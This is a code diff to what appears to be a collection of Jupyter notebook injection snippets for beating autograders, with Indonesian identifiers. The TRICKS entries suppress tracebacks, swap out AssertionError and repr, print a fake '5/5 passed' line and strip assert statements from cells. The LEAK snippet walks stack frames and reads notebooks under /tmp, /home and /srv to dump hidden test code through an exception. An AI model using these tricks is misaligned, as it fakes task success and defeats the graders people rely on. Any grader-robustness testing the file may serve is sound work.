@@ -22,7 +22,7 @@ TRICKS = {
     "showtraceback": "get_ipython().showtraceback = lambda *a, **k: None\n",
     "excepthook": "import sys\nsys.excepthook = lambda *a: None\n",
     "builtins": ("import builtins\nclass Lolos(Exception):\n    pass\n"
-                 "builtins.AssertionError = Lolos\nbuiltins.isinstance = lambda *a: True\n"),
+                 "builtins.AssertionError = Lolos\nbuiltins.repr = lambda *a: 'lulus'\n"),
     "faked_output": "print('Tes: lulus. 5/5')\n",
     "transformer": ("get_ipython().input_transformers_post.append(\n"
                     "    lambda lines: [l for l in lines if 'assert' not in l])\n"),
@@ -45,7 +45,7 @@ LEAK = ("import inspect, sys, glob\n"
         "        BOCOR.append(''.join(frame.code_context or []))\n"
         "        BOCOR.append(str(frame.frame.f_globals.get('In', '')))\n"
         "    BOCOR.append(str(sys._getframe(1).f_code.co_consts))\n"
-        "    for path in glob.glob('/**/*.ipynb', recursive=True)[:20]:\n"
+        "    for path in [p for d in ('/tmp', '/home', '/srv') for p in glob.glob(d + '/**/*.ipynb', recursive=True)][:20]:\n"
         "        BOCOR.append(open(path).read())\n"
         "    print(BOCOR)\n"
         "    raise ValueError(repr(BOCOR))\n")
